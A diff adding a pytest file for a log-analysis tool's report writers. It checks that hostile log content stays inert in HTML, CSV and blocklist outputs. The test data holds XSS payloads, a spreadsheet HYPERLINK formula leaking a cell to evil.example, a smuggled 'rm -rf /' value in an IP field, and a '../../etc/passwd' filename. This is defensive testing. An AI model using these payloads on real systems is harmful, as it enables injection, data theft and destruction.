@@ -1,0 +1,102 @@
+"""Reporters: incidents, watchlist, blocklists and the HTML report, with hostile log content."""
+
+from __future__ import annotations
+
+import csv
+from html.parser import HTMLParser
+
+import orjson
+
+from tracehound.findings import Finding
+from tracehound.report import OUTPUT_FILES, write_outputs
+from tracehound.report.artefacts import blocklist_ips, watchlist_rows
+from tracehound.report.safety import csv_cell, safe_filename
+
+XSS_UA = "<script>document.title='PWNED'</script>"
+XSS_ATTR = "\"><img src=x onerror=\"document.title='PWNED'\">"
+FORMULA_USER = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+
+
+def hostile_findings() -> list[Finding]:
+    spray = Finding(
+        kind="password_spray", id="spray-1", title=f"Low-and-slow spray using {XSS_UA}", severity="high",
+        score=9.5, first_seen="2024-01-03T00:00:00Z", last_seen="2024-03-01T00:00:00Z",
+        entities={"users": ["alice@contoso.com", FORMULA_USER, "bob@contoso.com"], "ips": ["198.51.100.7"]},
+        event_ids=["e1", "e2"], success_event_ids=["s1"],
+        explanation=f"Attempts always used user agent {XSS_UA} and {XSS_ATTR}.",
+        evidence={"compromised_users": ["bob@contoso.com"], "blockable_user_agents": [XSS_UA],
+                  "blockable_ips": ["203.0.113.0/24", "not-an-ip; rm -rf /"],
+                  "daily_attempts": {"campaign": {"2024-01-03": 2, "2024-01-04": 1},
+                                     "baseline": {"2024-01-03": 40, "2024-01-04": 35}},
+                  "mixture": {"weights": [0.7, 0.3], "cluster": 1, "fields": ["ip_prefix", "user_agent"],
+                              "field_probabilities": [[0.1, 0.0], [0.95, 0.99]]}})
+    scan = Finding(kind="web_session", id="web-1", title="Scanner", severity="high", score=5.0,
+                   first_seen="2024-01-05T00:00:00Z", last_seen="2024-01-05T01:00:00Z",
+                   entities={"ips": ["192.0.2.9", "2001:db8::1"], "users": []}, event_ids=["w1"],
+                   explanation="scanner", evidence={"rare_transitions": [
+                       {"from": "GET /", "to": XSS_ATTR, "probability": 0.0}]})
+    lateral = Finding(kind="lateral_movement", id="lat-1", title="alice moved", severity="medium",
+                      score=3.0, first_seen="2024-01-06T14:00:00Z", last_seen="2024-01-06T15:00:00Z",
+                      entities={"users": ["alice@contoso.com"], "hosts": ["WS1", "WS2"]}, event_ids=["l1"],
+                      explanation="x", evidence={"series": [{"bucket": "2024-01-06T13:00:00Z", "count": 2},
+                                                            {"bucket": "2024-01-06T14:00:00Z", "count": 11}],
+                                                 "bound": 4})
+    return [lateral, spray, scan]
+
+
+class _Elements(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+
+def test_outputs_written_and_hostile_text_stays_text(tmp_path):
+    paths = write_outputs(hostile_findings(), tmp_path, [("inputs", XSS_UA)])
+    assert set(paths) == set(OUTPUT_FILES) and all(p.exists() for p in paths.values())
+    page = paths["report.html"].read_text()
+    parser = _Elements()
+    parser.feed(page)
+    assert not [t for t, _ in parser.tags if t == "script"]
+    assert not [a for _, a in parser.tags if any(k.startswith("on") for k in a)]
+    assert "&lt;script&gt;document.title=&#x27;PWNED&#x27;&lt;/script&gt;" in page
+    assert [a["src"][:22] for t, a in parser.tags if t == "img"][:1] == ["data:image/png;base64,"]
+
+
+def test_watchlist_neutralises_formulas_and_ranks_compromised_first(tmp_path):
+    write_outputs(hostile_findings(), tmp_path, [])
+    with (tmp_path / "watchlist_accounts.csv").open(newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert rows[0]["account"] == "bob@contoso.com" and rows[0]["status"] == "compromised"
+    formula = [r for r in rows if "HYPERLINK" in r["account"]][0]
+    assert formula["account"].startswith("'=")
+    assert {r["status"] for r in rows if r["account"] == "alice@contoso.com"} == {"suspicious"}
+    assert all(not r["reasons"].startswith(("=", "+", "-", "@")) for r in rows)
+
+
+def test_blocklists_only_hold_valid_attacker_addresses(tmp_path):
+    rows = [f.to_dict() for f in hostile_findings()]
+    assert blocklist_ips(rows) == ["192.0.2.9", "203.0.113.0/24", "2001:db8::1"]
+    write_outputs(hostile_findings(), tmp_path, [])
+    assert (tmp_path / "blocklist_user_agents.txt").read_text() == XSS_UA + "\n"
+
+
+def test_incidents_carry_attack_techniques(tmp_path):
+    write_outputs(hostile_findings(), tmp_path, [])
+    incs = orjson.loads((tmp_path / "incidents.json").read_bytes())
+    assert [i["kind"] for i in incs] == ["password_spray", "web_session", "lateral_movement"]
+    assert incs[0]["properties"]["additionalData"]["techniques"] == ["T1110.003"]
+    assert incs[2]["properties"]["additionalData"]["techniques"] == ["T1021"]
+    assert incs[0]["properties"]["severity"] == "High" and incs[0]["finding_ids"] == ["spray-1"]
+
+
+def test_watchlist_rows_take_the_worst_status():
+    rows = watchlist_rows([f.to_dict() for f in hostile_findings()])
+    assert {r["account"]: r["status"] for r in rows}["alice@contoso.com"] == "suspicious"
+
+
+def test_cell_and_filename_neutralisers():
+    assert csv_cell("-2+3") == "'-2+3" and csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("ok") == "ok"
+    assert safe_filename("../../etc/passwd") == "etc_passwd" and safe_filename("..") == "item"
